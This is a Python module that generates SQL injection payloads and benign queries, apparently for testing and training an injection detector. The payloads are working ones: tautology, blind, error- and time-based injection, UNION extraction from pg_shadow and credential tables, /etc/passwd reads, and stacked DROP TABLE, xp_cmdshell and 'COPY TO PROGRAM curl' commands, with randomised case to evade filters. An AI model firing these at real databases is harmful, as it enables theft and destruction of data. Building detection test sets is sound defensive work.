"""What attackers put into values, made by grammar: families of payloads, and honest statements to put them into.

For measuring the gate and for teaching the judge.  A payload fits a context (a quoted string, a LIKE pattern, a
number, a list, ORDER BY, LIMIT, a column's name); a vulnerable program pastes it there.

Sources: the techniques and boundaries that sqlmap documents, OWASP's testing guide (WSTG-INPV-05) and PortSwigger's
cheat sheet, for PostgreSQL first and for the dialects that attackers try blindly.

Left out: sets that are for measuring only; nothing here was taken from one.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass

TEMPLATES: dict[str, tuple[str, ...]] = {
    "quoted": (
        "SELECT id, name FROM products WHERE name = '{}'",
        "SELECT id, name, price FROM products WHERE category = '{}' AND released = true",
        "SELECT * FROM orders WHERE status = '{}' ORDER BY created_at DESC LIMIT 20",
        "SELECT count(*) FROM users WHERE login = '{}' AND active = true",
        "SELECT title, abstract FROM patents WHERE (assignee = '{}') AND grant_year > 2010",
        "SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.email = '{}'",
        "SELECT region, sum(amount) FROM sales WHERE region = '{}' GROUP BY region HAVING sum(amount) > 10",
        "SELECT a.name FROM articles a WHERE a.slug = '{}' AND a.deleted IS NULL LIMIT 1",
    ),
    "like": (
        "SELECT id, name FROM products WHERE name LIKE '%{}%'",
        "SELECT id, title FROM articles WHERE title ILIKE '{}%' ORDER BY title",
        "SELECT name FROM customers WHERE name LIKE '%{}' AND country = 'DE'",
    ),
    "number": (
        "SELECT id, name FROM products WHERE id = {}",
        "SELECT name, price FROM products WHERE category_id = {} AND released = true",
        "SELECT * FROM orders WHERE customer_id = {} ORDER BY created_at DESC",
        "SELECT title FROM patents WHERE (patent_id = {}) AND grant_year > 2010",
        "SELECT o.id, o.total FROM orders o WHERE o.id = {} LIMIT 1",
        "SELECT region, sum(amount) FROM sales WHERE year = {} GROUP BY region",
        "SELECT avg(price) FROM products WHERE price > {}",
        "SELECT p.name FROM products p JOIN stock s ON s.product_id = p.id WHERE s.amount < {}",
    ),
    "list": (
        "SELECT id, name FROM products WHERE id IN ({})",
        "SELECT name FROM customers WHERE id IN (1, 2, {}) ORDER BY name",
        "SELECT count(*) FROM orders WHERE status IN ('new', '{}')",
    ),
    "order": (
        "SELECT id, name FROM products WHERE price > 10 ORDER BY {}",
        "SELECT name, price FROM products WHERE released = true ORDER BY {} LIMIT 10",
    ),
    "limit": (
        "SELECT id, name FROM products ORDER BY name LIMIT {}",
        "SELECT id, name FROM products ORDER BY name LIMIT 10 OFFSET {}",
    ),
    "name": (
        "SELECT {} FROM products WHERE released = true",
        "SELECT count(*), {} FROM orders WHERE total > 5 GROUP BY status",
        "SELECT id FROM {} WHERE id > 0",
    ),
    "identifier": (
        'SELECT "{}" FROM products WHERE price > 1',
        'SELECT name, "{}" FROM customers ORDER BY name',
    ),
}
"""Honest statements of programs, by the context of the hole in them."""

BENIGN_VALUES: dict[str, tuple[str, ...]] = {
    "quoted": (
        "Anna",
        "O''Neill",
        "new",
        "Garden & Home",
        "anna@example.org",
        "50% off",
        "rock -n- roll",
        "x or y",
    ),
    "like": ("chair", "a_b", "100", "and"),
    "number": ("1", "42", "-7", "3.5", "100000"),
    "list": ("4", "17"),
    "order": ("name", "1", "price DESC", "2, 1", "lower(name)"),
    "limit": ("10", "100"),
    "name": ("id", "name", "status", "products"),
    "identifier": ("id", "Name", "price in €"),
}


@dataclass(frozen=True, slots=True)
class Attack:
    """A payload in its statement.  `family` is the technique; `context` as in TEMPLATES."""

    family: str
    context: str
    payload: str
    statement: str


class _Maker:
    """Pieces with random numbers, letters, case and white space."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def number(self) -> str:
        return str(self.rng.choice([1, 2, 3, 7, self.rng.randrange(1000, 9999)]))

    def word(self) -> str:
        return "".join(self.rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(self.rng.randrange(1, 5)))

    def true(self) -> str:
        n, w = self.number(), self.word()
        m = str(int(n) + self.rng.randrange(1, 9))
        return self.rng.choice(
            [f"{n}={n}", f"{n} = {n}", f"'{w}'='{w}'", f"{m}>{n}", f"{n}<{m}", f"({n}={n})", f"'{w}' LIKE '{w}'",
             f"{n} IN ({n},{m})", f"{n} BETWEEN 0 AND {m}", f"NOT {n}={m}", f"'{w}'||'x'='{w}x'",
             f"length('{w}')={len(w)}", "ascii('a')=97", f"{n}+1={int(n) + 1}", f"CAST('{n}' AS int)={n}",
             f"'{w}'<>'{w}x'", f"{n} IS NOT NULL", f"(SELECT {n})={n}", f"EXISTS(SELECT {n})",
             f"upper('{w}')='{w.upper()}'"]
        )  # fmt: skip

    def false(self) -> str:
        n, w = self.number(), self.word()
        return self.rng.choice(
            [
                f"{n}={int(n) + 1}",
                f"'{w}'='{w}x'",
                f"{n}>{int(n) + 3}",
                f"NOT {n}={n}",
                f"(SELECT {n})={int(n) + 1}",
            ]
        )

    def secret(self) -> str:
        return self.rng.choice(["password", "passwd", "credit_card", "api_key", "password_hash", "secret"])

    def table(self) -> str:
        return self.rng.choice(["users", "accounts", "members", "admin", "customers_private"])

    def tail(self) -> str:
        return self.rng.choice(["--", "-- ", "--  -", f"-- {self.word()}"])

    def disguise(self, text: str) -> str:
        """Random case and white space outside quotes."""
        pieces = text.split("'")
        for index in range(0, len(pieces), 2):
            piece = pieces[index]
            style = self.rng.randrange(4)
            if style == 0:
                piece = "".join(c.upper() if self.rng.random() < 0.5 else c.lower() for c in piece)
            elif style == 1:
                piece = piece.lower()
            if self.rng.random() < 0.2:
                piece = piece.replace(" ", self.rng.choice(["\t", "/**/", "\n", "  "]))
            pieces[index] = piece
        return "'".join(pieces)

    def conditions(self) -> Iterator[tuple[str, str]]:
        """Family and condition, to follow AND or OR."""
        n, secret, table = self.number(), self.secret(), self.table()
        yield "tautology", f"OR {self.true()}"
        yield "tautology", f"OR {self.true()} OR {self.false()}"
        yield "boolean", f"AND {self.rng.choice(['7=7', self.true().replace('1=1', '5=5')])}"
        yield "boolean", f"AND {self.false().replace('1=0', '1=2')}"
        yield "blind", f"AND (SELECT substring({secret},1,1) FROM {table} WHERE id={n})='a'"
        yield "blind", f"AND ascii(substr((SELECT {secret} FROM {table} LIMIT 1),{n},1))>64"
        yield "blind", f"AND (SELECT 'a' FROM {table} WHERE login='admin' AND length({secret})>{n})='a'"
        yield "blind", "AND substr(current_user,1,1)='p'"
        yield "blind", f"AND EXISTS(SELECT 1 FROM {table} WHERE {secret} LIKE 'a%')"
        yield "blind", "AND (SELECT count(*) FROM information_schema.tables)>0"
        yield "error", f"AND 1=CAST((SELECT {secret} FROM {table} LIMIT 1) AS int)"
        yield "error", "AND 1=CAST(version() AS int)"
        yield "error", f"AND {n}=CAST((chr(113)||chr(98))||(SELECT version())::text||chr(120) AS numeric)"
        yield "error", f"AND extractvalue({n},concat(0x7e,(SELECT version())))"
        yield "error", f"AND updatexml({n},concat(0x7e,user()),1)"
        yield "error", f"AND 1=(CASE WHEN ({n}={n}) THEN 1 ELSE 1/0 END)"
        yield "error", f"AND 1=(CASE WHEN (SELECT count(*) FROM {table})>1 THEN 1/0 ELSE 1 END)"
        yield "error", "AND 1=utl_inaddr.get_host_address((SELECT banner FROM v$version))"
        yield "time", f"AND {n}=(SELECT {n} FROM pg_sleep(5))"
        yield "time", f"OR pg_sleep({n}) IS NULL"
        yield "time", f"AND sleep({n})"
        yield "time", f"AND benchmark(5000000,md5('{self.word()}'))"
        yield (
            "time",
            f"AND {n}=(CASE WHEN ({n}={n}) THEN (SELECT count(*) FROM generate_series(1,5000000)) ELSE {n} END)",
        )
        yield "time", f"AND {n}=dbms_pipe.receive_message('{self.word()}',5)"
        yield (
            "time",
            (
                "AND 1=(SELECT count(*) FROM information_schema.columns a, information_schema.columns b, "
                "information_schema.columns c)"
            ),
        )
        yield "time", "AND 'a'=regexp_substr(repeat('a',500000000),'b')"
        yield "file", "AND (SELECT pg_read_file('/etc/passwd')) IS NOT NULL"
        yield "file", "AND load_file('/etc/passwd') IS NOT NULL"

    def unions(self) -> Iterator[tuple[str, str]]:
        """Family and UNION; two columns, and other numbers of them."""
        secret, table = self.secret(), self.table()
        word = self.rng.choice(["UNION", "UNION ALL"])
        for count in (1, 2, 3, 5):
            yield "union", f"{word} SELECT " + ",".join(["NULL"] * count)
            yield "union", f"{word} SELECT " + ",".join(str(i + 1) for i in range(count))
        yield "union", f"{word} SELECT NULL,'a'"
        yield "union", f"{word} SELECT login,{secret} FROM {table}"
        yield "union", f"{word} SELECT NULL,login||'~'||{secret} FROM {table}"
        yield "union", f"{word} SELECT table_name,NULL FROM information_schema.tables"
        yield (
            "union",
            f"{word} SELECT column_name,table_name FROM information_schema.columns WHERE table_name='{table}'",
        )
        yield "union", f"{word} SELECT usename,passwd FROM pg_shadow"
        yield "union", f"{word} SELECT version(),NULL"
        yield "union", f"{word} SELECT current_user,current_database()"
        yield "union", f"{word} SELECT NULL,string_agg(relname,',') FROM pg_catalog.pg_class"

    def stacked(self) -> Iterator[tuple[str, str]]:
        table = self.table()
        yield "stacked", f"; DROP TABLE {table}"
        yield "stacked", f"; DELETE FROM {table}"
        yield "stacked", "; SELECT pg_sleep(10)"
        yield "stacked", f"; INSERT INTO {table} VALUES (1,'x')"
        yield "stacked", f"; UPDATE {table} SET {self.secret()}='x'"
        yield "stacked", f"; COPY {table} TO PROGRAM 'curl example.org'"
        yield "stacked", "; EXEC xp_cmdshell 'dir'"
        yield "stacked", "; WAITFOR DELAY '0:0:5'"
        yield "stacked", "; SELECT version()"
        yield "stacked", f"; CREATE TABLE {self.word()} (a text)"


def payloads(rng: random.Random) -> Iterator[tuple[str, str, str]]:
    """One round of payloads: family, context, text to paste into the hole."""
    make = _Maker(rng)
    values = [make.word(), "", "x", "admin"]
    for family, condition in make.conditions():
        start = rng.choice(values)
        yield family, "quoted", f"{start}' {condition} {make.tail()}"
        yield family, "quoted", f"{start}') {condition} {make.tail()}"
        if family == "tautology":
            w = make.word()
            yield family, "quoted", f"{start}' OR '{w}'='{w}"
            yield family, "quoted", f"{start}' OR {make.true()} OR '{w}'='"
        else:
            w = make.word()
            yield family, "quoted", f"{start}' {condition} AND '{w}'='{w}"
        yield family, "like", f"{start}%' {condition} {make.tail()}"
        yield family, "number", f"{make.number()} {condition}"
        yield family, "number", f"-{make.number()} {condition} {make.tail()}"
        yield family, "number", f"{make.number()}) {condition} {make.tail()}"
        yield family, "list", f"{make.number()}) {condition} {make.tail()}"
    for family, union in make.unions():
        yield family, "quoted", f"{rng.choice(values)}' {union} {make.tail()}"
        yield family, "like", f"{rng.choice(values)}' {union} {make.tail()}"
        yield family, "number", f"{make.number()} {union} {make.tail()}"
        yield family, "number", f"-{make.number()} {union}"
        yield family, "list", f"{make.number()}) {union} {make.tail()}"
        yield family, "limit", f"1 {union} {make.tail()}"
    for family, stacked in make.stacked():
        yield family, "quoted", f"{rng.choice(values)}'{stacked} {make.tail()}"
        yield family, "number", f"{make.number()}{stacked}{make.tail()}"
        yield family, "order", f"name{stacked} {make.tail()}"
        yield family, "limit", f"1{stacked} {make.tail()}"
    n, secret, table = make.number(), make.secret(), make.table()
    for query in (f"(SELECT {secret} FROM {table} LIMIT 1)", "(SELECT version())"):
        yield "concatenation", "quoted", f"{rng.choice(values)}'||{query}||'"
        yield (
            "error",
            "number",
            f"CAST({query} AS int)" if "version" in query else f"1 AND 1=CAST({query} AS int)",
        )
    yield "comment", "quoted", f"admin'{make.tail().strip()}"
    yield "comment", "quoted", "admin'/*"
    yield "comment", "quoted", "admin'#"
    yield "quote", "quoted", "'"
    yield "quote", "quoted", f"{make.word()}'"
    yield "quote", "quoted", "\\' OR 1=1 --"
    yield "encoding", "quoted", "x' OR U&'\\0061'='a"
    yield "encoding", "quoted", "x' OR chr(97)||chr(98)='ab'--"
    yield "encoding", "number", f"{n} OR 0x31=0x31"
    yield "order", "quoted", f"x' ORDER BY {rng.randrange(11, 99)}{make.tail()}"
    yield "order", "number", f"{n} ORDER BY {rng.randrange(11, 99)}{make.tail()}"
    yield "order", "order", f"(CASE WHEN ({n}={n}) THEN name ELSE price END)"
    yield "order", "order", f"(CASE WHEN (SELECT count(*) FROM {table})>1 THEN id ELSE 1/0 END)"
    yield "order", "order", f"(SELECT {secret} FROM {table} LIMIT 1)"
    yield "order", "order", "1,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)"
    yield "order", "order", f"{rng.randrange(11, 99)}"
    yield "limit", "limit", "(SELECT 1)"
    yield "limit", "limit", f"(CASE WHEN ({n}={n}) THEN 1 ELSE 0 END)"
    yield "limit", "limit", "1 PROCEDURE ANALYSE()"
    yield "limit", "limit", "1 INTO OUTFILE '/tmp/x'"
    yield "name", "identifier", f'{secret}" FROM {table} --'
    yield "name", "identifier", f'id" FROM products WHERE 1=2 UNION SELECT {secret} FROM {table} --'
    yield "name", "identifier", f'id", CASE WHEN ({n}={n}) THEN 1 ELSE 1/0 END, "name'
    yield "name", "name", f"CASE WHEN ({n}={n}) THEN 1 ELSE 1/0 END"
    yield "name", "name", f"1,2,{secret},4 FROM {table} --"
    yield "name", "name", "pg_sleep(5)"
    yield "name", "name", f"products; DROP TABLE {table} --"


def attacks(count: int, seed: int) -> list[Attack]:
    """At least `count` payloads in statements, the same ones for the same seed."""
    rng = random.Random(seed)
    make = _Maker(rng)
    found: list[Attack] = []
    while len(found) < count:
        for family, context, payload in payloads(rng):
            template = rng.choice(TEMPLATES[context])
            if context == "list" and "'{}'" in template:
                payload = payload.replace(")", "')", 1) if ")" in payload else payload
            payload = make.disguise(payload) if rng.random() < 0.4 else payload
            found.append(Attack(family, context, payload, template.replace("{}", payload)))
    return found


def honest(count: int, seed: int) -> list[str]:
    """Honest statements of the same programs."""
    rng = random.Random(seed)
    found: list[str] = []
    while len(found) < count:
        context = rng.choice(list(TEMPLATES))
        template = rng.choice(TEMPLATES[context])
        value = rng.choice(BENIGN_VALUES[context])
        if context == "name" and template.startswith("SELECT id FROM"):
            value = "products"
        found.append(template.replace("{}", value))
    return found
